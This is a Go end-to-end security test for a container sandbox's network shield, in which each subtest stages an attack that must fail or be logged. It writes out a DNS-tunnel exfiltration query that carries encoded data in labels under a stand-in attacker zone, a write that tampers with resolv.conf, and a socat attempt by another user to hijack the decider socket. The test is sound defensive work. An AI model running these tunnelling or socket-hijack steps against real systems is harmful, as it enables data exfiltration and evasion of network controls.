//go:build e2e

package e2e

// The hostile task against this session's new surfaces (docs/security-model.md):
// a container in interactive or learn mode, real podman, rootful and
// rootless, an upstream DNS server of the test's own in an outside netns.
// Each subtest is an attack that must fail, and each would pass if it
// succeeded.

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"terok.dev/sandbox/common/shieldbundle"
	"terok.dev/sandbox/common/testkit"
	"terok.dev/sandbox/runner/internal/testharness"
)

const (
	// atkZone is the task's own zone: the outside DNS server answers
	// every name below it NXDOMAIN and logs it (the tunnel's far end).
	atkZone = "tun.atk-e2e.example"
)

var atkQueryLine = regexp.MustCompile(`query\[([A-Za-z0-9]+)\] (\S+) from `)

// atkQueries reads the outside DNS server's query log: "TYPE name" -> count.
func atkQueries(t *testing.T, log string) map[string]int {
	t.Helper()
	f, err := os.Open(log)
	if err != nil {
		return map[string]int{}
	}
	defer f.Close()
	n := map[string]int{}
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if m := atkQueryLine.FindStringSubmatch(sc.Text()); m != nil {
			n[m[1]+" "+strings.ToLower(strings.TrimSuffix(m[2], "."))]++
		}
	}
	return n
}

// atkRecords reads the container's refused.jsonl (with its rotations).
func atkRecords(t *testing.T, stateDir string) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, f := range []string{"refused.jsonl.2", "refused.jsonl.1", "refused.jsonl"} {
		data, err := os.ReadFile(filepath.Join(stateDir, f))
		if err != nil {
			continue
		}
		for _, l := range strings.Split(string(data), "\n") {
			var m map[string]any
			if json.Unmarshal([]byte(l), &m) == nil {
				out = append(out, m)
			}
		}
	}
	return out
}

func atkHasRecord(t *testing.T, stateDir string, ok func(m map[string]any) bool) bool {
	for _, m := range atkRecords(t, stateDir) {
		if ok(m) {
			return true
		}
	}
	return false
}

func TestAttackModes(t *testing.T) {
	env := H(t)
	out, _, addrs := shxNewNetnsHost(t, 1)
	dnsIP := addrs[0]
	queryLog := filepath.Join(t.TempDir(), "queries.log")
	out.daemon(t, "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts",
		"--listen-address="+dnsIP, "--bind-interfaces", "--port=53", "--pid-file=",
		"--log-queries", "--log-facility="+queryLog, "--address=/"+atkZone+"/")
	shxWaitFor(t, 10*time.Second, "outside DNS server", func() bool {
		return exec.Command("dig", "+time=1", "+tries=1", "@"+dnsIP, "ready."+atkZone).Run() == nil
	})

	env.Each(t, func(t *testing.T, r *testharness.Runner) {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
		defer cancel()
		shxShieldRunner(t, ctx, r)
		gate := shxNewHostService(t)
		shxProfileConfig(t, r, gate.port, "atk", "listed.atk-e2e.example\n")
		if err := r.WriteConfig(fmt.Sprintf("gate_port = %d\nproxy_port = %d\nssh_agent_port = %d\nshield_profiles = [\"atk\"]\nshield_upstream_dns = %q\nshield_decide_timeout = \"2s\"\n",
			gate.port, testkit.FreePort(t), testkit.FreePort(t), dnsIP)); err != nil {
			t.Fatal(err)
		}
		probeDir := filepath.Join(r.Base, "probe")
		if err := r.Mkdir(probeDir, 0o755); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			cctx, ccancel := context.WithTimeout(context.Background(), 2*time.Minute)
			defer ccancel()
			testharness.CleanupPrefix(cctx, r, r.Prefix)
		})

		for _, mode := range []string{shieldbundle.ModeInteractive, shieldbundle.ModeLearn} {
			t.Run(mode, func(t *testing.T) {
				name := r.Name("atk-" + mode[:5])
				shxSandboxOK(t, ctx, r, "run", "--shield-mode", mode, "--name", name, "--image", env.Image,
					"-v", probeDir+":/probe:ro", "--", "sleep", "600")
				defer r.Sandbox(ctx, "stop", name)
				stateDir := filepath.Join(r.Dirs.State, "tasks", name, "shield")

				// The escape routes' socket families (issue 11 part 5) stay
				// closed whatever the shield's mode: the seccomp profile is
				// the same for every launch.
				t.Run("socket families", func(t *testing.T) {
					escSocketFamilies(t, ctx, &escRunner{r: r, probeDir: probeDir}, name)
				})

				// A DNS channel: data in the labels of a name under the
				// task's own zone. Interactive and learn mode forward it
				// (the upstream log proves the channel exists), so it must
				// be on record.
				t.Run("dns tunnel on record", func(t *testing.T) {
					id := shxRandID(t)
					leak := "mfrggzdfmzzwq2lk-" + id + "." + atkZone
					shxInContainer(ctx, r, name, "timeout 15 nslookup "+leak)
					shxWaitFor(t, 10*time.Second, "the tunnel query at the upstream", func() bool {
						return atkQueries(t, queryLog)["A "+leak] > 0
					})
					shxWaitFor(t, 10*time.Second, "a dns-forwarded record of the tunnel query", func() bool {
						return atkHasRecord(t, stateDir, func(m map[string]any) bool {
							return m["event"] == "dns-forwarded" && m["name"] == leak && m["qtype"] == "A" && m["rcode"] != nil
						})
					})
					txt := "txt-" + id + "." + atkZone
					shxInContainer(ctx, r, name, "timeout 15 nslookup -type=txt "+txt)
					if mode == shieldbundle.ModeInteractive {
						// Not forwarded, refused on record as in enforce mode.
						shxWaitFor(t, 10*time.Second, "a dns-refused record of the TXT question", func() bool {
							return atkHasRecord(t, stateDir, func(m map[string]any) bool {
								return m["event"] == "dns-refused" && m["name"] == txt && m["qtype"] == "TXT"
							})
						})
						if n := atkQueries(t, queryLog)["TXT "+txt]; n != 0 {
							t.Errorf("interactive mode forwarded an unlisted TXT question %d times", n)
						}
						return
					}
					shxWaitFor(t, 10*time.Second, "a dns-forwarded record of the learn-mode TXT question", func() bool {
						return atkHasRecord(t, stateDir, func(m map[string]any) bool {
							return m["event"] == "dns-forwarded" && m["name"] == txt && m["qtype"] == "TXT"
						})
					})
				})

				if mode != shieldbundle.ModeInteractive {
					return
				}
				sock := filepath.Join(stateDir, shieldbundle.FileDeciderSocket)
				if _, err := os.Stat(sock); err != nil {
					t.Fatalf("the decider socket is missing on the host: %v", err)
				}

				// The decider socket approves connections: the task must
				// not reach it. Nothing of the shield's state is mounted,
				// and no socket of that name is anywhere in the container.
				t.Run("decider socket out of reach of the container", func(t *testing.T) {
					res := shxInContainer(ctx, r, name, "find / -path /proc -prune -o -path /sys -prune -o -type s -print 2>/dev/null")
					if strings.Contains(res.Stdout, shieldbundle.FileDeciderSocket) {
						t.Errorf("a decider socket is visible in the container: %s", res)
					}
					// The one mount of the shield's state is resolv.conf: a
					// file (no directory, so no socket beside it), read-only.
					ins := r.Podman(ctx, "inspect", "--format", "{{range .Mounts}}{{.Source}}|{{.RW}} {{end}}", name)
					if ins.Code != 0 {
						t.Fatalf("inspect: %s", ins)
					}
					for _, m := range strings.Fields(ins.Stdout) {
						src, rw, _ := strings.Cut(m, "|")
						if !strings.HasPrefix(stateDir+"/", src+"/") && !strings.HasPrefix(src+"/", stateDir+"/") {
							continue
						}
						if st, err := os.Stat(src); err != nil || st.IsDir() || rw != "false" || filepath.Base(src) != "resolv.conf" {
							t.Errorf("the container mounts %s (rw %s) of the shield state %s", src, rw, stateDir)
						}
					}
					if res := shxInContainer(ctx, r, name, "echo nameserver 198.51.100.254 >> /etc/resolv.conf"); res.Code == 0 {
						t.Errorf("the container's root wrote the shield's resolv.conf: %s", res)
					}
				})

				// Another local user attaching a decider of its own.
				t.Run("decider socket refuses another user", func(t *testing.T) {
					cmd := exec.CommandContext(ctx, "setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups",
						"socat", "-T", "3", "STDIO", "UNIX-CONNECT:"+sock)
					cmd.Stdin = strings.NewReader("")
					b, err := cmd.CombinedOutput()
					if err == nil && !strings.Contains(string(b), `"error"`) {
						t.Errorf("uid 65534 attached to the decider socket: %s", b)
					}
					t.Logf("uid 65534: %v %s", err, b)
				})
			})
		}
	})
}
